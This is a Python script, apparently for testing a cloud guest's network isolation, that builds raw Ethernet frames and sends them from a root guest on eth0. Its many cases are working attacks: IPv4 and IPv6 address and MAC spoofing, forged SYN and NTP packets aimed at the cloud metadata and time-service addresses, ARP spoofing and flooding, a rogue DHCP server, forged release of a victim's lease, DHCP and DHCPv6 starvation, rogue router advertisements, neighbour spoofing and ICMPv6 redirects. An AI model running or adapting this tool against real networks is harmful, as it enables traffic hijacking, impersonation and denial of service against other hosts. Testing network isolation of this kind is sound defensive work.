"""Sends frames that no honest guest sends: `send.py KIND COUNT KEY=VALUE…`, in a guest with root's rights. Tells how many it sent."""
import socket
import struct
import sys

kind, count = sys.argv[1], int(sys.argv[2])
options = dict(argument.split("=", 1) for argument in sys.argv[3:])


def mac(text):
    return bytes.fromhex(text.replace(":", ""))


def checksum(data):
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    while total > 0xFFFF:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def ethernet(payload, protocol, source=None, target=None):
    return mac(target or options["router"]) + mac(source or options["mac"]) + struct.pack(">H", protocol) + payload


def ipv4(payload, protocol, source, target):
    head = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), 1, 0, 64, protocol, 0, socket.inet_aton(source), socket.inet_aton(target))
    return head[:10] + struct.pack(">H", checksum(head)) + head[12:] + payload


def udp(data, source_port, target_port):
    # Without a checksum, which IPv4 allows.
    return struct.pack(">HHHH", source_port, target_port, 8 + len(data), 0) + data


def datagram(source, target, source_port, target_port, data=b"attack", source_mac=None):
    return ethernet(ipv4(udp(data, source_port, target_port), 17, source, target), 0x0800, source_mac)


def syn(source, target, source_port, target_port):
    head = struct.pack(">HHIIBBHHH", source_port, target_port, 1, 0, 0x50, 2, 1024, 0, 0)
    pseudo = socket.inet_aton(source) + socket.inet_aton(target) + struct.pack(">BBH", 0, 6, len(head))
    head = head[:16] + struct.pack(">H", checksum(pseudo + head)) + head[18:]
    return ethernet(ipv4(head, 6, source, target), 0x0800)


def arp(operation, sender_mac, sender_ip, target_ip):
    body = struct.pack(">HHBBH6s4s6s4s", 1, 0x0800, 6, 4, operation, mac(sender_mac), socket.inet_aton(sender_ip), b"\0" * 6, socket.inet_aton(target_ip))
    return ethernet(body, 0x0806, target="ff:ff:ff:ff:ff:ff")


def dhcp(kind, client_mac, address="0.0.0.0", operation=1):
    body = struct.pack(">BBBBIHH4s4s4s4s16s192s4s", operation, 1, 6, 0, 7, 0, 0, b"\0" * 4, socket.inet_aton(address), b"\0" * 4, b"\0" * 4, mac(client_mac), b"", b"\x63\x82\x53\x63")
    return body + bytes([53, 1, kind, 255])


def ipv6(payload, protocol, source, target, checksum_at, source_mac=None):
    source, target = socket.inet_pton(socket.AF_INET6, source), socket.inet_pton(socket.AF_INET6, target)
    pseudo = source + target + struct.pack(">II", len(payload), protocol)
    padded = pseudo + payload + b"\0" * (len(payload) % 2)
    payload = payload[:checksum_at] + struct.pack(">H", checksum(padded) or 0xFFFF) + payload[checksum_at + 2 :]
    head = struct.pack(">IHBB", 0x60000000, len(payload), protocol, 255) + source + target
    link = "33:33:" + ":".join(f"{byte:02x}" for byte in target[12:]) if target[0] == 0xFF else None
    return ethernet(head + payload, 0x86DD, source_mac, link)


def datagram6(source, target, source_port, target_port, data=b"attack", source_mac=None):
    return ipv6(udp(data, source_port, target_port), 17, source, target, 6, source_mac)


def syn6(source, target, source_port, target_port):
    return ipv6(struct.pack(">HHIIBBHHH", source_port, target_port, 1, 0, 0x50, 2, 1024, 0, 0), 6, source, target, 16)


def icmp6(kind, source, target, body):
    return ipv6(struct.pack(">BBH", kind, 0, 0) + body, 58, source, target, 2)


def address6(text):
    return socket.inet_pton(socket.AF_INET6, text)


def link_layer(kind):
    return bytes([kind, 1]) + mac(options["mac"])


def neighbour_solicitation(source):
    return icmp6(135, source, "ff02::1:ff00:1", bytes(4) + address6("fe80::1") + link_layer(1))


def neighbour_advertisement(source, claimed):
    return icmp6(136, source, "fe80::1", struct.pack(">I", 0x60000000) + address6(claimed) + link_layer(2))


def redirect(source, target):
    return icmp6(137, source, target, bytes(4) + address6(options["ip6"]) + address6("2001:db8::9") + link_layer(2))


def dhcp6(kind, index):
    return struct.pack(">I", kind << 24 | index & 0xFFFFFF) + struct.pack(">HHHHI", 1, 8, 2, 0, index) + struct.pack(">HHIII", 3, 12, 1, 0, 0)


def router_advertisement():
    return icmp6(134, "fe80::1", "ff02::1", struct.pack(">BBHII", 64, 0, 1800, 0, 0))


# Of a client of NTP, version 4.
time_request = b"\x23" + bytes(47)


def frame(index):
    own, victim = options["ip"], options.get("victim", "")
    victim_mac = options.get("victim_mac", "")
    match kind:
        case "forged-address":
            return datagram(options["as"], victim, 5000 + index % 1000, 9)
        case "forged-mac":
            return datagram(own, victim, 5000 + index % 1000, 9, source_mac=victim_mac)
        case "forged-syn":
            return syn(options["as"], "169.254.169.254", 5000 + index % 1000, 80)
        case "forged-time":
            return datagram(options["as"], "169.254.169.123", 5000 + index % 1000, 123, time_request)
        case "forged6-time":
            return datagram6(options["as"], "fd00:ec2::123", 5000 + index % 1000, 123, time_request)
        case "time-flood":
            return datagram(own, "169.254.169.123", int(options["port"]), 123, time_request)
        case "arp-claim":
            return arp(2, options["mac"], victim, victim)
        case "arp-flood":
            return arp(1, options["mac"], f"172.31.{1 + index // 250 % 250}.{1 + index % 250}", options["gateway"])
        case "dhcp-server":
            return datagram(own, victim, 67, 68, dhcp(5, victim_mac, victim, operation=2))
        case "dhcp-release":
            return datagram(own, options["gateway"], 68, 67, dhcp(7, victim_mac, victim))
        case "dhcp-flood":
            return ethernet(ipv4(udp(dhcp(1, f"02:66:{index >> 24 & 255:02x}:{index >> 16 & 255:02x}:{index >> 8 & 255:02x}:{index & 255:02x}"), 68, 67), 17, "0.0.0.0", "255.255.255.255"), 0x0800, target="ff:ff:ff:ff:ff:ff")
        case "router-advertisement":
            return router_advertisement()
        case "forged6-address":
            return datagram6(options["as"], options["victim6"], 5000 + index % 1000, 9)
        case "forged6-mac":
            return datagram6(options["ip6"], options["victim6"], 5000 + index % 1000, 9, source_mac=victim_mac)
        case "forged6-syn":
            return syn6(options["as"], "fd00:ec2::254", 5000 + index % 1000, 80)
        case "redirect":
            return redirect("fe80::1", options["victim6"])
        case "neighbour-claim":
            return neighbour_advertisement(options["as"], options["claim"])
        case "neighbour-flood":
            return neighbour_solicitation(f"fe80::{index + 0x100:x}")
        case "dhcp6-server":
            return datagram6(options["ip6"], options["victim6"], 547, 546, dhcp6(7, index))
        case "dhcp6-flood":
            return datagram6(f"fe80::{index + 0x100:x}", "ff02::1:2", 546, 547, dhcp6(1, index))
        case "service6-flood":
            return datagram6(options["ip6"], "fd00:ec2::254", 2000, 9)
        case "loopback":
            return syn(own, "127.0.0.1", 5000 + index % 1000, int(options["port"]))
        case "connections":
            return datagram(own, victim, 1024 + index % 60000, 10 + index // 60000)
        case "service-flood":
            return datagram(own, "169.254.169.254", 2000, 9)
    raise SystemExit(f"no attack {kind}")


link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
link.bind(("eth0", 0))
# Made before the first is sent: a flood is fast.
frames = [frame(number) for number in range(count)]
for data in frames:
    link.send(data)
print(count)
